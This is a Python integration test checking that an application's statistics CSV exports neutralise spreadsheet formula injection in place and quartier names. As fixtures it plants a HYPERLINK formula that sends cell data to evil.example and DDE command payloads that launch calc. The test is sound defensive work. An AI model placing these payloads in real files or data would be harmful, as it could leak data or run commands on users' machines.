"""Statistics CSVs carry names typed by people (quartiers, places): no cell may open as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from litestar import Litestar
from sqlalchemy import update

from konfliktmanagement.db import models as m
from konfliktmanagement.domain.statistics import catalogue as c
from konfliktmanagement.domain.statistics.exports import as_csv
from tests.integration.test_statistics_publishing import PLACES, publish, seed_cases

pytestmark = pytest.mark.anyio

HOSTILE = {"Q01": '=HYPERLINK("http://evil.example/?x="&A1;"Info")', "Q03": "@SUMME(1+1)*cmd|' /C calc'!A0"}
HOSTILE_PLACE = "-2+3+cmd|' /C calc'!A0"


async def test_no_cell_of_any_statistics_csv_starts_a_formula(app: Litestar) -> None:
    await seed_cases(app)
    async with app.state["alchemy_config"].get_session() as session:
        for code, name in HOSTILE.items():
            await session.execute(update(m.Quartier).where(m.Quartier.code == code).values(name=name))
        await session.execute(update(m.Place).where(m.Place.name == PLACES["Q01", "laerm"]).values(name=HOSTILE_PLACE))
        await session.commit()
    publications = await publish(app)
    assert {p.table_code for p in publications} == {spec.code for spec in c.CATALOGUE}

    cells = []
    for publication in publications:
        rows = csv.reader(io.StringIO(as_csv(publication)), delimiter=";")
        cells += [cell for row in rows if not row[0].startswith("#") for cell in row]
    # The names arrive, as text: quartiers on their own, the place with its quartier after it.
    assert "'" + HOSTILE["Q01"] in cells
    assert "'" + HOSTILE["Q03"] in cells
    assert any(cell.startswith("'" + HOSTILE_PLACE) for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
